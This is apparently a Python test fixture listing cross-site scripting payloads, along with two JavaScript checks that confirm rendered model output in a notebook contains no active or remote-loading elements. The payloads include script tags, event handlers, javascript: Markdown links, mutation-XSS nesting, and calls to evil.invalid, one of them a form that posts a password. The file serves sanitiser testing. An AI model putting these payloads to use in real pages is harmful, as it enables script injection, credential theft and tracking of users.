"""Strings that run a script, load something or draw a form where model output is not sanitised.

Collected from the classes of cheat sheets: tags, handlers, URLs, encodings, nesting that parsers read differently
(mutation XSS), Markdown's own links and images, code fences, MathML and SVG, styles, forms, templates.
"""

import json

from rsql_magic.answers.study.widgets import STYLE

RUN = "window.hacked=1"
STRINGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//evil.invalid/x.js></script><script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<img/src=x/onerror={RUN}>",
    "<img src=http://evil.invalid/track.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>click</text></a></svg>',
    "<svg><image href=http://evil.invalid/i.png></svg>",
    "<svg><use href=http://evil.invalid/u.svg#x></svg>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "<iframe src=http://evil.invalid/></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    '<form action="http://evil.invalid/"><input name=password></form>',
    f'<button form=x formaction="javascript:{RUN}">go</button>',
    f'<a href="javascript:{RUN}">link</a>',
    f"[link](javascript:{RUN})",
    f"[link](JaVaScRiPt:{RUN})",
    f"[link](  javascript:{RUN})",
    f"[link](&#106;avascript:{RUN})",
    f"[link](javascript&colon;{RUN})",
    f"[link](java\tscript:{RUN})",
    f"[link](vbscript:{RUN})",
    f"[link](data:text/html,<script>{RUN}</script>)",
    "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    f"[ref]\n\n[ref]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    "![x](http://evil.invalid/m.png)",
    f'![x"onerror="{RUN}](y)',
    f'[x](http://a.invalid/"onmouseover="{RUN})',
    f'[x](<http://a.invalid/> "t" onclick={RUN})',
    f"`<img src=x onerror={RUN}>`",
    f'```html"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
    f'```"onmouseover={RUN}\nx\n```',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"- [ ] <img src=x onerror={RUN}>",
    f"$<img src=x onerror={RUN}>$",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\text{{<img src=x onerror={RUN}>}}$$",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<math href="javascript:{RUN}">x</math>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><img src=x onerror={RUN}></template>",
    "<style>@import 'http://evil.invalid/s.css'; body{background:url(http://evil.invalid/b.png)}</style>",
    "<link rel=stylesheet href=http://evil.invalid/l.css>",
    '<p style="background:url(http://evil.invalid/p.png);position:fixed;inset:0">x</p>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "<base href=http://evil.invalid/>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml ?><img src=x onerror={RUN}>",
    f"\\<img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"<p id=x name=getElementById tabindex=1 onfocus={RUN}>clobber</p>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
]

# What of the nodes of a page a model's words must not have made.
INSPECTED = """(all = ".rsql-turn *") => {
  const bad = "script,iframe,object,embed,form,base,link,meta,style,video,audio,source,image,use,template,marquee,xmp";
  const found = [];
  for (const node of document.querySelectorAll(all)) {
    if (node.matches(bad)) found.push(node.outerHTML.slice(0, 80));
    if (node.matches("img:not([src^='data:image/png'])")) found.push(node.outerHTML.slice(0, 80));
    const control = node.closest(".rsql-said") && !node.closest("figcaption") && node.matches("input,button,select");
    if (control) found.push(node.outerHTML.slice(0, 80));
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || name === "style" || name === "srcdoc" || name === "formaction") found.push(name);
      if (/href|src|action/.test(name) && !/^(https?:|mailto:|#|data:image[/]png[;,])/i.test(value)) found.push(value);
    }
  }
  return found;
}"""

# What a part of a page holds that could act; the marks of JupyterLab itself (its heading anchors) and the style sheet
# of study sets are left out.
ACTING = """(root) => {
  const bad = [];
  for (const node of root.querySelectorAll("*")) {
    const name = node.nodeName.toLowerCase();
    if (name === "style" && node.textContent === OWN) continue;
    if (/^(script|iframe|object|embed|form|style|link|meta|base|video|audio|img|image|use)$/.test(name)
        && !node.closest("mjx-container")) bad.push(name);
    if (name === "svg" && !node.closest("mjx-container")) bad.push("svg");
    for (const { name: key, value } of node.attributes) {
      if (/^on/i.test(key)) bad.push(`${key}=${value}`);
      if (/^(href|xlink:href|src|srcdoc|action|formaction|data|background|poster)$/i.test(key)
          && !/^(https?:|mailto:|#)/i.test(value.trim())) bad.push(`${key}=${value}`);
      if (key === "style" && /url\\s*\\(/i.test(value)) bad.push(`${key}=${value}`);
    }
  }
  return bad;
}""".replace("OWN", json.dumps(STYLE))
